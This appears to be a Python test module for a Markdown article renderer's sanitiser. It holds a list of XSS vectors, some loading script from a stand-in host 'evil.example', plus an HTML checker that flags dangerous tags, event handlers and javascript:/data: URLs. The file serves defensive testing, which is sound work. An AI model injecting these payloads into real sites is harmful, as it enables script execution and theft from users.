"""A corpus of XSS vectors written as an editor could write them, and a checker for HTML output."""

from html.parser import HTMLParser

from articles.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

VECTORS = [
    # Raw script tags, in every case and shape.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/xss src=//evil.example/x.js></script>",
    '<script type="module">import("//evil.example")</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "Text before\n\n<script>\nalert(1)\n</script>\n\nText after",
    "**<script>alert(1)</script>**",
    "> <script>alert(1)</script>",
    "- item <script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="#" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p title="x" onclick="alert(1)">para</p>',
    # Frames, objects, forms, metadata, styles.
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="position:fixed;inset:0">overlay</span>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Malformed and nested tags.
    '<img """><script>alert(1)</script>">',
    '<img src="x\nonerror=alert(1)>',
    '<a href="javascript:alert(1)"',
    "<a\nhref=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "<a href=&#106;avascript:alert(1)>entity</a>",
    # javascript: and data: in Markdown link syntax.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](   javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: data:text/html,alert(1)",
    '[x](https://example.org "a" onmouseover="alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x](//evil.example/phish)",
    "[x](/\\evil.example/phish)",
    # ... and in Markdown image syntax.
    "![x](javascript:alert(1))",
    "![x](JAVASCRIPT:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![x" onerror="alert(1)](y.png)',
    '![x](y.png" onerror="alert(1))',
    '![x](y.png "t" onerror="alert(1)")',
    "![x][img]\n\n[img]: javascript:alert(1)",
    "![x](//evil.example/pixel.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    # Already-escaped text must stay text.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # Inline citations that try to carry markup.
    "[[<script>alert(1)</script> 4]]",
    '[[" onmouseover="alert(1) 4]]',
    "[[javascript:alert 4]]",
    "[[social-insurance-law 4]]<img src=x onerror=alert(1)>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset"}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
DANGEROUS_TAGS = {"script", "iframe", "frame", "object", "embed", "base", "applet", "style", "link", "meta"}


def _normalise_url(value):
    # Browsers ignore whitespace and control characters inside a scheme.
    return "".join(ch for ch in value if ch > " " and ch != "\x7f").lower()


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attr: value})

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def elements(html):
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def dangers(html, *, allowlist=True):
    """What in `html` could run script or leave the site's control; empty when it is safe.

    With `allowlist`, every element and attribute must also be on the renderer's allowlist
    (nh3 adds `rel` to links).
    """
    found = []
    for tag, attrs in elements(html):
        if allowlist and tag not in ALLOWED_TAGS:
            found.append(f"tag <{tag}>")
        # Our own scripts are files under /static/; a JSON-LD block is data a browser never runs.
        own_script = tag == "script" and (
            attrs.get("src", "").startswith("/static/")
            or (attrs.get("type") == "application/ld+json" and not attrs.get("src"))
        )
        if tag in DANGEROUS_TAGS and not own_script:
            if allowlist or tag in {"script", "iframe", "frame", "object", "embed", "base", "applet"}:
                found.append(f"dangerous tag <{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"event handler {name} on <{tag}>")
            if name in {"style", "srcdoc"} and allowlist:
                found.append(f"{name} on <{tag}>")
            if allowlist and name not in ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                found.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES:
                url = _normalise_url(value)
                if url.startswith(DANGEROUS_SCHEMES):
                    found.append(f"{name}={value!r} on <{tag}>")
                if allowlist and url.startswith(("//", "/\\", "\\")):
                    found.append(f"off-site relative URL {name}={value!r} on <{tag}>")
    return found
